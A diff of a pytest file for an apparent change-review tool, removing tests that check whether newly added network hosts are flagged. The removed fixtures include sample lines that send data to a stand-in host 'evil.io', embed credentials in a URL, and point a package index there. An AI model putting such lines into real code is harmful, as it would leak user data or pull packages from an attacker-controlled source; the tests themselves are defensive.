@@ -285,29 +285,6 @@ def test_a_silencer_that_was_there_may_stay_or_move(tmp_path: Path):
     check_said(tmp_path, before, {"a.py": "x = 2  # noqa\ny = 2\n"})
 
 
-@pytest.mark.parametrize(
-    ("path", "line", "level"),
-    [
-        ("a.py", 'get("https://evil.io/x?d=" + data)', "approve"),
-        ("a.ts", "fetch(`//x`, 'http://user:pw@Evil.io:80')", "approve"),
-        ("a.toml", 'index = "https://evil.io/simple"', "approve"),
-        ("a.py", "# see https://evil.io/why", "confirm"),
-        ("README.md", "![x](https://evil.io/p.png?d=1)", "confirm"),
-    ],
-)
-def test_a_new_host_is_seen(tmp_path: Path, path: str, line: str, level: str):
-    check_said(tmp_path, {path: "\n"}, {path: f"{line}\n"}, ("hosts", level, "evil.io is a new host"))
-
-
-def test_a_host_that_was_there_nobodys_and_those_of_tests_say_nothing(tmp_path: Path):
-    before = {"a.py": "A = 'https://api.shop.io/1'\n", "tests/test_a.py": "\n"}
-    after = {
-        "a.py": "A = 'https://api.shop.io/2'\nB = 'http://localhost:80'\nC = 'https://www.example.com'\n",
-        "tests/test_a.py": "X = 'https://anything.io'\n",
-    }
-    check_said(tmp_path, before, after)
-
-
 def test_settings_of_checkers_are_approved(tmp_path: Path):
     text = "[tool.ruff]\nline-length = 88\n\n[tool.other]\nx = 1\n"
     after = {"pyproject.toml": text.replace("88", "99")}
